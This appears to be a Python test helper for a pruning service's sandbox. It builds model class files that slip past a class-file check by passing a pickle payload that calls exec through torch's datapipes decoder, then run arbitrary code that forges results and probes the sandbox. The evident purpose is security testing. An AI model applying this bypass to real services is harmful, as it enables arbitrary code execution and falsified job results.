"""Class files that pass the class-file check and then run any Python *as the job*.

The route (issue 19): ``torch.utils.data.datapipes.utils.decoder.basichandlers`` is
reachable under the check's rules (``torch.utils.data`` is one of the pure submodules it
allows, and none of the attribute names on the way is refused), and for the extension
``"pickle"`` it calls ``pickle.loads`` on the bytes it is given. A pickle may call any
callable: here ``exec`` of a source string, with a namespace of its own. A bytes literal
is not a string the check looks into, so the source can say anything. From the class
file's first statement on, the job runs any Python it likes, with the child's
descriptors: its channel to the server is descriptor 3.

:func:`class_file` wraps a trick's source (run after :data:`PRELUDE`, which gives it
the job's side of the channel) into such a class file, with the guide's ``Net`` below
it, so that a trick which lets the import go on gets an ordinary pruning job.
"""
from __future__ import annotations

import json
import pickle
import re
import textwrap
from pathlib import Path

import requests

PT_QUERY = {"percent": "0.5", "input_size": "1,28,28", "model_name": "Net", "measure": "false"}
# Control characters (C0 but newline and tab, DEL, C1) in text a client gets back.
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
RAW_CONTROL = re.compile(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]|\xc2[\x80-\x9f]")

# The job's side, run before each trick: frames written by hand on descriptor 3, and
# ways to end (a result of its own, or the pipeline's, with evidence attached).
PRELUDE = r'''
import ctypes
import errno
import json
import os
import struct
import sys
import threading
import time

HEADER = struct.Struct(">cQ")
CHANNEL = 3


def write_all(fd, data):
    view = memoryview(data)
    while view:
        view = view[os.write(fd, view):]


def frame(kind, body=b"", length=None):
    """One frame; ``length`` may lie about the body."""
    write_all(CHANNEL, HEADER.pack(kind, len(body) if length is None else length) + body)


def send(message):
    frame(b"J", json.dumps(message).encode())


def send_file(key, suffix, data):
    send({"type": "file", "key": key, "suffix": suffix})
    frame(b"F", data)


def progress(phase, fraction):
    frame(b"P", json.dumps({"phase": phase, "progress": fraction}).encode())


def finish(code=0):
    try:
        sys.stdout.flush()
        sys.stderr.flush()
    finally:
        os._exit(code)


def fail(text):
    """End the job with a failure of its own, saying ``text``."""
    send({"type": "result", "ok": False, "error": text})
    finish()


def done(message, report=None, model=b"", files=()):
    """End the job as done with a result of its own: ``model`` as the model file."""
    send_file("model", ".pt", model or ("attacker's model " + TOKEN).encode())
    for key, suffix, data in files:
        send_file(key, suffix, data)
    report = {"framework": "pytorch", "percent": 0.5} if report is None else report
    send({"type": "result", "ok": True, "message": message, "report": report})
    finish()


def carry_on(evidence):
    """Let the pipeline run on; its result (done or failed) starts with ``evidence``."""
    from edgeai.sandbox import channel

    original = channel.ChannelWriter.send

    def send_with_evidence(self, message):
        if message.get("type") == "result":
            field = "message" if message.get("ok") else "error"
            message = {**message, field: evidence + "\n" + str(message.get(field) or "")}
        original(self, message)

    channel.ChannelWriter.send = send_with_evidence


def name_task(tag):
    """Name the calling thread (its comm, PR_SET_NAME): the test finds it by it, and the
    threads and processes it starts inherit the name."""
    if ctypes.CDLL(None, use_errno=True).prctl(15, tag[:15].encode(), 0, 0, 0) != 0:
        raise OSError(ctypes.get_errno(), "prctl(PR_SET_NAME)")


def errno_of(call):
    """The errno name ``call()`` fails with, or "ok"."""
    try:
        call()
        return "ok"
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error.errno))


def meminfo(field="MemAvailable"):
    with open("/proc/meminfo") as handle:
        for line in handle:
            if line.startswith(field + ":"):
                return int(line.split()[1]) >> 10
    return -1
'''


class _Exec:
    """Pickles to ``exec(source, {"__name__": "hostile"})``."""

    def __init__(self, source: str):
        self.source = source

    def __reduce__(self):
        return exec, (self.source, {"__name__": "hostile"})


NET = '''

class Net(nn.Module):
    def __init__(self):
        super(Net, self).__init__()
        self.conv1 = nn.Conv2d(1, 32, 3, 1)
        self.conv2 = nn.Conv2d(32, 64, 3, 1)
        self.dropout1 = nn.Dropout(0.25)
        self.dropout2 = nn.Dropout(0.5)
        self.fc1 = nn.Linear(9216, 128)
        self.fc2 = nn.Linear(128, 10)

    def forward(self, x):
        x = F.relu(self.conv1(x))
        x = F.max_pool2d(F.relu(self.conv2(x)), 2)
        x = torch.flatten(self.dropout1(x), 1)
        x = self.dropout2(F.relu(self.fc1(x)))
        return F.log_softmax(self.fc2(x), dim=1)
'''


def trick_source(trick: str, context: dict) -> str:
    """The Python a job runs: the prelude, ``context`` (names the trick may use, e.g.
    ``TOKEN``, ``DATA_DIR``) and the trick itself."""
    names = "".join(f"{name} = {value!r}\n" for name, value in context.items())
    return PRELUDE + names + textwrap.dedent(trick)


def class_file(trick: str, context: dict) -> str:
    """A class file that runs ``trick`` as full Python when it is imported, then defines
    the guide's ``Net``. It passes :func:`check_class_file` (asserted here)."""
    from edgeai.pruning.torch_engine.classfile import check_class_file

    payload = pickle.dumps(_Exec(trick_source(trick, context)), protocol=2)
    source = ("import torch\nimport torch.nn as nn\nimport torch.nn.functional as F\n\n"
              f"torch.utils.data.datapipes.utils.decoder.basichandlers(\"pickle\", {payload!r})\n"
              + NET)
    check_class_file(source)  # the check lets it through: only the walls stand
    return source


def submit(server, headers: dict, source: str, weights: Path, folder: Path,
           query: dict | None = None) -> str:
    """Submit ``source`` as the class file of a guide ``pt_prune`` call; return the txid."""
    folder.mkdir(parents=True, exist_ok=True)
    model = folder / "model.py"
    model.write_text(source)
    with open(model, "rb") as class_handle, open(weights, "rb") as weights_handle:
        response = requests.post(
            f"{server.url}/api/pt_prune", params=query or PT_QUERY,
            headers=dict(headers, accept="application/json"),
            files={"weights": (weights.name, weights_handle),
                   "class_def": ("model.py", class_handle)}, timeout=60)
    assert response.status_code == 200, response.text
    return response.json()["txid"]


def create_keys(database_url: str, *names: str) -> list[dict]:
    """Keys made as ``edgeai keys create`` makes them, in this process (a CLI start
    costs seconds); returned as the headers a client sends."""
    from edgeai.auth import create_key
    from edgeai.db import Database

    database = Database(database_url)
    try:
        keys = [create_key(database, name) for name in names]
    finally:
        database.dispose()
    return [{"X-IBM-Client-Id": key.client_id, "X-IBM-Client-Secret": key.client_secret}
            for key in keys]


def strict_json(text: str):
    """``text`` parsed as JSON proper: NaN and Infinity are not JSON."""
    def refuse(constant):
        raise AssertionError(f"{constant} in a JSON response")
    return json.loads(text, parse_constant=refuse)


def assert_no_control(value, where: str) -> None:
    """No string anywhere in ``value`` holds a control character (newline, tab aside)."""
    if isinstance(value, str):
        assert not CONTROL.search(value), f"control characters in {where}: {value[:200]!r}"
    elif isinstance(value, dict):
        for key, item in value.items():
            assert_no_control(key, where)
            assert_no_control(item, where)
    elif isinstance(value, list):
        for item in value:
            assert_no_control(item, where)
